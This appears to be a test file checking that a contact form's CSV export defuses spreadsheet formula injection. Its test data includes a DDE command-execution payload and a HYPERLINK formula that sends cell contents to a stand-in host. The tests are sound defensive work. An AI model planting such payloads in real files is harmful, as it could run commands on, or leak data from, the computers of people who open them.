import { describe, expect, it } from 'vitest';
import { csvLine } from '../../src/forms/csv.js';
import { countHostile, reportHostileCounts } from '../security/hostile-count.js';
import { spreadsheetCells } from './csv-spreadsheet-cells.js';

reportHostileCounts();

/** What a visitor may type into a contact message, and the one cell a spreadsheet honouring quotes shows for it. */
const HOSTILE_FIELDS: [string, string][] = [
  ['Lee;=1+1', "Lee;'=1+1"],
  ["Bonjour;=cmd|' /C calc'!A0;@SUM(1+1)", "Bonjour;'=cmd|' /C calc'!A0;'@SUM(1+1)"],
  ['=HYPERLINK("http://x.example/?"&A1;"clic")', `'=HYPERLINK("http://x.example/?"&A1;"clic")`],
  ['+1 514 555-0100', "'+1 514 555-0100"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', "'\t'=1+1"],
  ['\r=1+1', "'\r'=1+1"],
  ['\0=1+1', "'\0=1+1"],
  ['a,b;c\td', 'a,b;c\td'],
  ['ligne 1\r\n=1+1;@x', "ligne 1\r\n'=1+1;'@x"],
  ['Il a dit ;"=1+1"', `Il a dit ;'"=1+1"`],
  [';"""-1', `;'"""-1`],
  [',=1+1', ",'=1+1"],
  ['Tremblay - avocate; 2 = deux', 'Tremblay - avocate; 2 = deux'],
];

const FORMULA_START = /^[=+\-@\t\r\0]/;

describe('CSV export lines', () => {
  it('quotes what needs it and defuses spreadsheet formulas', () => {
    expect(csvLine(['Marie', 'Tremblay', null, 3])).toBe('Marie,Tremblay,,3');
    expect(csvLine(['Bonjour, "cabinet"', 'ligne 1\nligne 2', 'a;b'])).toBe(
      '"Bonjour, ""cabinet""","ligne 1\nligne 2","a;b"',
    );
    expect(csvLine(['=HYPERLINK("http://x")', '+1 514', '-2', '@SUM(A1)', 'Lee;=1+1'])).toBe(
      `"'=HYPERLINK(""http://x"")","'+1 514","'-2","'@SUM(A1)","Lee;'=1+1"`,
    );
  });

  it('opens as the same cells, none a formula, whether a spreadsheet splits on commas, semicolons or tabs', () => {
    const rows = [['id', 'message', 'subject'], ...HOSTILE_FIELDS.map(([field], index) => [index + 1, field, field])];
    const expected = [
      ['id', 'message', 'subject'],
      ...HOSTILE_FIELDS.map(([, cell], index) => [String(index + 1), cell, cell]),
    ];
    countHostile('CSV export', HOSTILE_FIELDS.length);
    const csv = `${rows.map(csvLine).join('\r\n')}\r\n`;

    for (const separators of [',', ',;', ',;\t']) {
      expect(spreadsheetCells(csv, separators), `split on ${JSON.stringify(separators)}`).toEqual(expected);
    }
    for (const separators of [',', ';', '\t', ',;', ',;\t']) {
      const cells = spreadsheetCells(csv, separators).flat();
      expect(cells.length, `split on ${JSON.stringify(separators)}`).toBeGreaterThanOrEqual(expected.length);
      expect(
        cells.filter((cell) => FORMULA_START.test(cell)),
        `split on ${JSON.stringify(separators)}`,
      ).toEqual([]);
    }
  });
});
